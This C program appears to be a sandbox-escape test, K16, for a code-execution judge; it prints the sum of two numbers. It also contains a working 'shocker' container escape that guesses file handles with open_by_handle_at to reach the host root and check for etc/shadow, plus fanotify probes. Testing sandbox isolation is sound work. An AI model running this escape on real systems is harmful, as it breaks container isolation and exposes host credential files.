// K16: opens a file by a guessed handle, which passes by every directory above it: inode 2 is the root of an ext file
// system, 128 that of xfs, 1 that of a tmpfs. And fanotify, which hands out open files of a whole mount.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/fanotify.h>
#include <sys/syscall.h>
#include <unistd.h>

static int found;

static void report(const char *what, long answer) {
    if (answer < 0) {
        dprintf(2, "%s: %m\n", what);
        return;
    }
    dprintf(2, "ESCAPED: %s\n", what);
    found++;
}

static void shocker(void) {
    struct { uint32_t bytes; int32_t type; uint32_t inode, generation; } handle = {8, 1, 2, 0};
    int mount = open("/usr", O_RDONLY | O_DIRECTORY);
    for (handle.inode = 1; handle.inode < 4096; handle.inode++) {
        int fd = syscall(SYS_open_by_handle_at, mount, &handle, O_RDONLY);
        if (fd < 0) continue;
        // /usr itself and what is below it is shown anyway; the file system's root is not.
        if (faccessat(fd, "etc/shadow", F_OK, 0) == 0) report("the host's root directory", 0);
        close(fd);
        if (found) return;
    }
    report("no handle opens the host's root", -1);
}

static void denied(void) {
    char buffer[256] = {128};
    int mount;
    report("a handle's name", syscall(SYS_name_to_handle_at, AT_FDCWD, "/usr", buffer, &mount, 0));
    report("fanotify", syscall(SYS_fanotify_init, FAN_CLASS_NOTIF, O_RDONLY));
    report("fanotify by file id", syscall(SYS_fanotify_init, FAN_CLASS_NOTIF | FAN_REPORT_FID, O_RDONLY));
    report("fanotify with a say", syscall(SYS_fanotify_init, FAN_CLASS_CONTENT, O_RDONLY));
    if (!found) dprintf(2, "no handle and no watch\n");
}

int main(int argc, char **argv) {
    long long a, b;
    if (scanf("%lld %lld", &a, &b) != 2) return 1;
    if (!strcmp(argv[1], "shocker")) shocker();
    if (!strcmp(argv[1], "denied")) denied();
    if (!strcmp(argv[1], "mark")) {
        int group = syscall(SYS_fanotify_init, FAN_CLASS_NOTIF, O_RDONLY);
        unsigned flags = FAN_MARK_ADD | FAN_MARK_MOUNT;
        report("a mark on a mount", syscall(SYS_fanotify_mark, group, flags, FAN_OPEN, -1, "/usr"));
    }
    printf("%lld\n", a + b);
    return 0;
}
